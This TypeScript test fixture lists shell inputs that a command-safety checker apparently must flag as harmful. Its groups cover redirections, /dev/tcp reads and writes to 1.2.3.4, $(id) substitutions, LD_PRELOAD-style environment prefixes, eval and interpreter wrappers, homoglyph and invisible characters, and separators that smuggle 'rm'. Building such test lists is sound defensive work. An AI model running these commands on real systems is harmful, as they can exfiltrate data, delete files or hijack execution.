import { type FamilyCases, lines } from "./family-cases.ts";

export const shellCases: FamilyCases = {
  harmful: {
    "redirections anywhere": lines(String.raw`
echo x > a
echo x >a
echo x >> a
> a
>a echo x
echo >a x
cat < a > /etc/passwd
cat <a >b
cat < /dev/tcp/1.2.3.4/80
ls 2> err.txt
ls 2>err
ls &> all
ls &>>all
ls >| a
ls <> a
ls >& a
ls 3>a
ls {fd}>a
ls > /dev/null/../x
ls >/dev/nullx
ls >/dev/null/x
ls 2>/dev/null>a
ls >/dev/tcp/1.2.3.4/80
cat </dev/tcp/1.2.3.4/80
ls 2>&1>a
ls 2>&1a
ls 10>/dev/null
cat <<< x
cat << EOF
cat <<EOF\nx\nEOF
cat <(id)
tee >(id)
git diff > x.patch
2>&1 ls
>/dev/null ls
ls a2>&1
`),
    "substitutions in any quoting": lines(String.raw`
echo $(id)
echo "$(id)"
echo "a $(id) b"
echo ${"`"}id${"`"}
echo "${"`"}id${"`"}"
echo ${"$"}{x}
echo "${"$"}{x:-$(id)}"
echo $HOME
echo "$HOME"
echo "$$"
echo $'a\x27'
echo $"a"
echo "a"$(id)
echo 'a'$(id)
echo \\$(id)
echo "\\$(id)"
cat "$(echo /etc/passwd)"
ls $x
ls "$@"
ls $((1+1))
ls $[1+1]
grep "$PATTERN" a
printf "%s" "$(id)"
date "+$(id)"
git log --format="$(id)"
test -f "$(id)"
cd $(id)
cd "$HOME"
FOO=$(id) ls
LANG=$(id) ls
`),
    "arithmetic in tests": lines(`
test -v 'a[$(id)]'
test -R x
test 'a[$(id)]' -eq 1
test 1 -eq 1
test -t 'x[$(id)]'
test -f a -a -f b
test ! -v a
test -n x
test a = b
test -o errexit
[ -f a -a 'a[$(id)]' -eq 0 ]
[ 'a[$(id)]' -eq 0 ]
[[ -v 'a[$(id)]' ]]
[[ a -eq 1 ]]
(( a = 1 ))
((a[$(id)]))
let a=1
let 'a[$(id)]=1'
printf '%n' 'a[$(id)]'
printf -v 'a[$(id)]' x
printf -v x y
printf '%(%F)T' -1
printf '%*d' 5 1
printf -- '%n' x
printf "-v" x
`),
    "environment prefixes": lines(`
LD_PRELOAD=./x.so ls
BASH_ENV=x ls
ENV=x ls
PATH=. ls
GIT_EXTERNAL_DIFF=./x git diff
GIT_PAGER=./x git log
PAGER=./x git log
GIT_SSH_COMMAND=x git log
GIT_CONFIG_COUNT=1 git log
GIT_DIR=x git status
IFS=x ls
PS4=x ls
LESSOPEN='|x' less a
NODE_OPTIONS=--require=./x node --version
PYTHONSTARTUP=x python3 --version
RIPGREP_CONFIG_PATH=x rg foo
LOCPATH=. ls
LANG=../../x ls
LC_ALL=/tmp/x ls
TERMINFO=. ls
TERM=/../x ls
TZ=/etc/passwd date
TZ=:/etc/passwd date
TZ=../x date
TZ=~/x date
LANG=~ ls
LANG+=x ls
A=1
A=1 B=2
LANG=C
CI=true
LANG=C A=1 ls
LC_ALL='a b' ls
'LANG'=C ls
env LANG=C ls
export LANG=C
CDPATH=/ cd x
GLOBIGNORE=x ls *
`),
    "wrappers and interpreters": lines(`
sudo ls
doas ls
su -c ls
env ls
env -i ls
env -S 'ls'
command ls
command -p ls
builtin echo x
exec ls
eval ls
eval 'rm x'
source x
. x
bash -c ls
sh -c ls
bash x
zsh -c ls
dash x
xargs ls
xargs rm
find . | xargs rm
timeout 5 ls
nohup ls
nice ls
time ls
stdbuf -o0 ls
setsid ls
watch ls
strace ls
script x
busybox ls
parallel ls
flock x ls
ssh host ls
docker run x
docker ps
chroot . ls
node -e 1
node x.js
node -p 1
node --version x
node --eval 1 --version
python3 -c 1
python3 -V -c 1
python3 x.py
python3 -m http.server
perl -e 1
perl -v -e 1
ruby -e 1
php -r 1
lua x
awk 'BEGIN{system("id")}'
awk '{print > "x"}' a
awk '{print | "sh"}' a
awk '{print $1 > "x"}' a
awk 'BEGIN { while (("id" | getline x) > 0) print x }'
awk -f x.awk a
awk -v ENVIRON=1 '{print $1}' a
awk '@load "x"' a
awk --source '{print}' a
gawk '{print}' a
make
npx tsc
npm run x
npm test
yarn
go run .
cargo run
cargo tree
cargo metadata
cargo doc
trap 'id' EXIT
trap id 0
alias ls=rm
hash -p ./x ls
enable -f ./x.so x
enable -n echo
set -x
shopt -s extglob
unset PATH
declare x=1
typeset x
local x
readonly x
read x
mapfile x
history -w x
fc -e vi
ulimit -c 0
umask 0
kill -9 1
pushd x
popd
`),
    "invisible characters": [
      "ls \u200Bx",
      "ls\u00A0-la",
      "ls \u202Ex",
      "ls '\u202Ex'",
      "cat 'a\u2066b'",
      "echo \uFEFFx",
      "echo 'x\uFEFF'",
      "ls '\u3164'",
      "ls '\uFFA0'",
      "ls '\u115F'",
      "ls '\u2800'",
      "ls '\u00AD'",
      "ls '\uFE0F'",
      "ls '\u{E0041}'",
      "ls '\u{1D173}'",
      "ls '\uD800'",
      "ls '\uE000'",
      "ls '\uFFFD'",
      "ls \u3000x",
      "ls '\u2003'",
      "lѕ",
      "ls ö",
      "сat a",
      "ls ‐la",
      "ls '\u180E'",
      "ls '\u034F'",
      "echo '\u2060'",
    ],
    "control characters and escapes": [
      "ls \u0000",
      "ls '\u0000'",
      "ls \u0007",
      "ls '\u001B[2J'",
      "ls \u001B]0;x\u0007",
      "echo '\u009B2J'",
      "cat '\u0008a'",
      "cat 'a\u007F'",
      "ls \u0001x",
      "ls \u000Bx",
      "ls \u000Cx",
    ],
    "line ends and separators": [
      "ls\r",
      "ls\r\nid",
      "ls\rrm x",
      "ls \\\nrm",
      "l\\\ns",
      "ls \u0085 id",
      "ls \u2028 id",
      "ls \u2029 id",
      "ls\nrm x",
      "ls\n\nrm x",
      "ls; rm x",
      "ls ;rm x",
      "ls;rm x;",
      "ls && rm x",
      "ls || rm x",
      "ls | rm x",
      "ls & rm x",
      "ls &",
      "ls&",
      "ls & ls",
      "ls |& cat",
      "ls ;; ls",
      "ls ; ; ls",
      "; ls",
      "&& ls",
      "| ls",
      "ls &&",
      "ls ||",
      "ls |",
      "ls\n&& ls",
      "ls\n| cat",
      "ls && && ls",
      "! ls",
      "ls && ! ls",
      "\n",
      "",
      "   ",
      ";",
      "ls &&\n",
      'echo "a\\\nb"',
      "ls 'a\nb' ; rm 'x\n'",
    ],
    "length and number": [
      `echo ${"a".repeat(10_000)}`,
      Array.from({ length: 31 }, () => "ls").join(";"),
      Array.from({ length: 31 }, () => "ls").join("\n"),
      Array.from({ length: 40 }, () => "true").join(" && "),
      `ls ${"x ".repeat(6000)}`,
      "cd a && cd b && cd c && cd d && ls",
    ],
    "shells that read otherwise": lines(String.raw`
ls {a,b}
ls {1..3}
ls a{b
ls ~
ls ~root
cat ~/x
ls a=~/x
ls x:~
ls [ab]
ls a[!b]c
ls @(a|b)
ls +(a)
ls !(a)
ls # x
ls #x
echo a#b
#ls
!!
!ls
echo !$
echo a!b
ls ^a^b^; { ls; }
{ ls; }
(ls)
( ls )
f() { ls; }; f
function f { ls; }
if true; then ls; fi
for x in a; do ls; done > x
while true; do ls; done
until ls; do ls; done
case a in a) ls;; esac
select x in a; do ls; done
coproc ls
time ls
time -p ls
then
do
done
in
[[ a ]]
"ls"
'ls'
l"s"
\ls
l\s
./ls
/bin/ls
../x
a/b
-ls
=ls
%1
*
ls*
? x
ls 'a
ls "a
ls \
ls "a\
ls 'a'b"c
ls '*'*
ls \**
ls "?"?
ls a\*?
cat '['*
echo "a\!b"
ls $
ls a$
ls ${"`"}
ls ${"`"}x
`),
  },
};
